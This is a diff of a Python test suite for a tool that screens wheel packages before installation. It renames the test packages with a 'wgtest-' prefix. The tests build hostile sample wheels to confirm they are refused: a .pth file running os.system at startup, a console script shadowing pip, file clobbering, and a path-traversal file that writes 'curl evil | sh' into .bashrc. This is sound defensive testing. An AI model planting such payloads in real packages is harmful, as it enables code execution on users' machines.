@@ -41,65 +41,68 @@ def _refused(server: IndexServer, venv: Path, *args: str) -> str:
 def test_clobbering_an_installed_project_is_refused(
     index: Index, server: IndexServer, target_venv: Path
 ) -> None:
-    index.wheel("victim", "1.0")
-    index.wheel("evil", "1.0", files={"victim/__init__.py": b"import os\n"})
-    assert _install(server, target_venv, "victim")[0] == 0
-    err = _refused(server, target_venv, "evil")
-    assert "error: clobber: evil: evil-1.0-py3-none-any.whl: victim/__init__.py" in err
-    assert "installed victim" in err
-    assert 'allow-clobber = ["evil"]' in err
+    index.wheel("wgtest-victim", "1.0")
+    index.wheel("wgtest-evil", "1.0", files={"wgtest_victim/__init__.py": b"import os\n"})
+    assert _install(server, target_venv, "wgtest-victim")[0] == 0
+    err = _refused(server, target_venv, "wgtest-evil")
+    assert (
+        "error: clobber: wgtest-evil: wgtest_evil-1.0-py3-none-any.whl: wgtest_victim/__init__.py"
+        in err
+    )
+    assert "installed wgtest-victim" in err
+    assert 'allow-clobber = ["wgtest-evil"]' in err
 
 
 def test_pip_console_script_is_refused(
     index: Index, server: IndexServer, target_venv: Path
 ) -> None:
-    index.wheel("helpful", "1.0", entry_points="[console_scripts]\npip = helpful:main\n")
-    err = _refused(server, target_venv, "helpful")
-    assert "command-shadowing" in err and "helpful-1.0-py3-none-any.whl" in err
-    assert "'pip'" in err and 'allow-commands = ["helpful"]' in err
+    index.wheel("wgtest-helper", "1.0", entry_points="[console_scripts]\npip = helper:main\n")
+    err = _refused(server, target_venv, "wgtest-helper")
+    assert "command-shadowing" in err and "wgtest_helper-1.0-py3-none-any.whl" in err
+    assert "'pip'" in err and 'allow-commands = ["wgtest-helper"]' in err
 
 
 def test_pth_with_import_line_is_refused(
     index: Index, server: IndexServer, target_venv: Path
 ) -> None:
     index.wheel(
-        "sneaky",
+        "wgtest-sneaky",
         "1.0",
         files={
-            "sneaky/__init__.py": b"",
-            "sneaky.pth": b"import os; os.system('echo owned')\n",
+            "wgtest_sneaky/__init__.py": b"",
+            "wgtest_sneaky.pth": b"import os; os.system('echo owned')\n",
         },
     )
-    err = _refused(server, target_venv, "sneaky")
-    assert "startup-code" in err and "sneaky.pth" in err
-    assert 'allow-startup = ["sneaky"]' in err
+    err = _refused(server, target_venv, "wgtest-sneaky")
+    assert "startup-code" in err and "wgtest_sneaky.pth" in err
+    assert 'allow-startup = ["wgtest-sneaky"]' in err
 
 
 def test_record_mismatch_is_refused(index: Index, server: IndexServer, target_venv: Path) -> None:
-    name, data = make_wheel("tampered", "1.0")
-    index.add((name, _replace_member(data, "tampered/__init__.py", b"import evil\n")))
-    err = _refused(server, target_venv, "tampered")
-    assert "record-mismatch" in err and "tampered/__init__.py" in err
-    assert 'allow-bad-record = ["tampered"]' in err
+    name, data = make_wheel("wgtest-tampered", "1.0")
+    index.add((name, _replace_member(data, "wgtest_tampered/__init__.py", b"import evil\n")))
+    err = _refused(server, target_venv, "wgtest-tampered")
+    assert "record-mismatch" in err and "wgtest_tampered/__init__.py" in err
+    assert 'allow-bad-record = ["wgtest-tampered"]' in err
 
 
 def test_data_path_escape_is_refused(index: Index, server: IndexServer, target_venv: Path) -> None:
     index.wheel(
-        "escape",
+        "wgtest-escape",
         "1.0",
         files={
-            "escape/__init__.py": b"",
-            "escape-1.0.data/data/../../../../home/.bashrc": b"curl evil | sh\n",
+            "wgtest_escape/__init__.py": b"",
+            "wgtest_escape-1.0.data/data/../../../../home/.bashrc": b"curl evil | sh\n",
         },
     )
-    err = _refused(server, target_venv, "escape")
-    assert "unsafe-path" in err and "escape-1.0.data/data/../../../../home/.bashrc" in err
+    err = _refused(server, target_venv, "wgtest-escape")
+    assert "unsafe-path" in err and "wgtest_escape-1.0.data/data/../../../../home/.bashrc" in err
 
 
 def test_dry_run_runs_the_gate(index: Index, server: IndexServer, target_venv: Path) -> None:
-    index.wheel("helpful", "1.0", entry_points="[console_scripts]\npython3 = helpful:main\n")
+    index.wheel("wgtest-helper", "1.0", entry_points="[console_scripts]\npython3 = helper:main\n")
     before = tree_digest(target_venv)
-    code, err = _install(server, target_venv, "--dry-run", "helpful")
+    code, err = _install(server, target_venv, "--dry-run", "wgtest-helper")
     assert code == 3 and "command-shadowing" in err and "the Python interpreter" in err
     assert tree_digest(target_venv) == before
 
@@ -111,14 +114,14 @@ def test_dry_run_runs_the_gate(index: Index, server: IndexServer, target_venv: P
 def test_namespace_packages_and_identical_shared_files_install(
     index: Index, server: IndexServer, target_venv: Path
 ) -> None:
-    index.wheel("ns-one", "1.0", files={"ns/one/__init__.py": b"x = 1\n"})
-    index.wheel("ns-two", "1.0", files={"ns/two/__init__.py": b"x = 2\n"})
-    for cuda in ("nvidia-a", "nvidia-b", "nvidia-c"):
-        module = cuda.split("-")[1]
+    index.wheel("wgtest-ns-one", "1.0", files={"ns/one/__init__.py": b"x = 1\n"})
+    index.wheel("wgtest-ns-two", "1.0", files={"ns/two/__init__.py": b"x = 2\n"})
+    for cuda in ("wgtest-cuda-a", "wgtest-cuda-b", "wgtest-cuda-c"):
+        module = cuda.split("-")[2]
         index.wheel(cuda, "1.0", files={"nvidia/__init__.py": b"", f"nvidia/{module}/x.py": b""})
-    code, err = _install(server, target_venv, "ns-one", "nvidia-a")
+    code, err = _install(server, target_venv, "wgtest-ns-one", "wgtest-cuda-a")
     assert code == 0, err
-    code, err = _install(server, target_venv, "ns-two", "nvidia-b", "nvidia-c")
+    code, err = _install(server, target_venv, "wgtest-ns-two", "wgtest-cuda-b", "wgtest-cuda-c")
     assert code == 0, err
     site = next((target_venv / "lib").glob("python*/site-packages"))
     assert (site / "ns/one/__init__.py").is_file() and (site / "ns/two/__init__.py").is_file()
@@ -128,16 +131,19 @@ def test_namespace_packages_and_identical_shared_files_install(
 def test_project_upgrading_itself_installs(
     index: Index, server: IndexServer, target_venv: Path
 ) -> None:
-    index.wheel("tool", "1.0", entry_points="[console_scripts]\ntool = tool:main\n")
+    index.wheel("wgtest-tool", "1.0", entry_points="[console_scripts]\ntool = tool:main\n")
     index.wheel(
-        "tool",
+        "wgtest-tool",
         "2.0",
-        files={"tool/__init__.py": b"v = 2\n", "tool.pth": b"./tool-extra\n# a comment\n"},
+        files={
+            "wgtest_tool/__init__.py": b"v = 2\n",
+            "wgtest_tool.pth": b"./tool-extra\n# a comment\n",
+        },
         entry_points="[console_scripts]\ntool = tool:main\n",
     )
-    code, err = _install(server, target_venv, "tool==1.0")
+    code, err = _install(server, target_venv, "wgtest-tool==1.0")
     assert code == 0, err
-    code, err = _install(server, target_venv, "--upgrade", "tool")
+    code, err = _install(server, target_venv, "--upgrade", "wgtest-tool")
     assert code == 0, err
     assert (target_venv / "bin/tool").is_file()
 
@@ -158,30 +164,31 @@ def test_pip_installing_pip_and_prefixed_names(
         server, target_venv, "--report", str(report), "pip==99.0", "pip-audit", "python-dotenv"
     )
     assert code == 0, err
-    assert json.loads(report.read_text())["safepip"]["findings"] == []
+    findings = json.loads(report.read_text())["safepip"]["findings"]
+    assert [f for f in findings if f["gate"] == "wheel-content"] == []
 
 
 def test_report_lists_report_only_findings_and_policy_opt_out(
     index: Index, server: IndexServer, target_venv: Path, tmp_path: Path
 ) -> None:
     index.wheel(
-        "plugin",
+        "wgtest-plugin",
         "1.0",
         files={
-            "plugin/__init__.py": b"",
-            "plugin.pth": b"import plugin\n",
-            "plugin-1.0.data/data/etc/plugin/conf.json": b"{}",
+            "wgtest_plugin/__init__.py": b"",
+            "wgtest_plugin.pth": b"import wgtest_plugin\n",
+            "wgtest_plugin-1.0.data/data/etc/plugin/conf.json": b"{}",
         },
     )
     policy = tmp_path / "policy.toml"
-    policy.write_text('[wheelgate]\nallow-startup = ["plugin"]\n')
+    policy.write_text('[wheelgate]\nallow-startup = ["wgtest-plugin"]\n')
     report = tmp_path / "report.json"
     code, err = _install(
-        server, target_venv, "--policy", str(policy), "--report", str(report), "plugin"
+        server, target_venv, "--policy", str(policy), "--report", str(report), "wgtest-plugin"
     )
     assert code == 0, err
     findings = json.loads(report.read_text())["safepip"]["findings"]
-    assert {(f["rule"], f["action"]) for f in findings} == {
+    assert {(f["rule"], f["action"]) for f in findings if f["gate"] == "wheel-content"} == {
         ("startup-code", "report"),
         ("sensitive-data", "report"),
     }
